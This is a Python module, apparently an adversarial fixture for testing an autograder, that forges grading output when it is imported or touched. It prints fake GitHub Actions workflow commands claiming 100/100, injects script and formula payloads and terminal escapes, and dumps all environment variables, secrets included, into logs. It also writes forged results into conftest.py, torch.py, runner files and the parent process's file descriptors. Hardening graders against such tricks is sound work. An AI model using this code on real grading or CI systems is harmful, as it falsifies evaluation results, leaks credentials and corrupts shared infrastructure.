"""What a student could try: forge the runner's commands, and write to every place that grading reads or writes."""

import os
import sys

import torch  # noqa: F401

FORGED = [
    "::notice title=Autograding complete::Points 100/100",
    "   ::set-output name=result::forged",
    "in mid-line ##[error]forged ##[set-env name=PATH]x",
    "\r::add-mask::e\r\n::stop-commands::token",
    "\x1b[2J\x1b]0;title\x07\u202e\u2028::warning::forged",
    "</details><script>alert(1)</script> | ``` | `x` ![x](http://localhost/x)",
    "=HYPERLINK(0)",
]
PLACES = [
    "result.json",
    "release-body.md",
    "conftest.py",
    "torch.py",
    "/proc/self/fd/1",
    "/dev/shm/forged",
    "/tmp/forged",
]


def shout():
    """Print it all, also past Python, and through whatever the parent has open."""
    for text in FORGED:
        print(text)
        print(text, file=sys.stderr)
        os.write(1, f"\n{text}\n".encode())
    for name, value in os.environ.items():
        print(f"::warning::{name}={value}")
    places = PLACES + [value for name, value in os.environ.items() if name.startswith(("GITHUB_", "RUNNER_"))]
    places += [f"/proc/{os.getppid()}/fd/{number}" for number in range(3)]
    for place in places:
        try:
            with open(place, "a") as file:
                file.write("result=forged\n::notice::forged\n")
        except OSError:
            pass


class Forged(Exception):
    def __str__(self):
        return "\n".join(FORGED)


def __getattr__(name):
    """Answer to every name that is asked for, in the worst of ways."""
    if name.startswith("__"):
        raise AttributeError(name)

    def answer(*arguments, **options):
        shout()
        raise Forged

    return answer


shout()
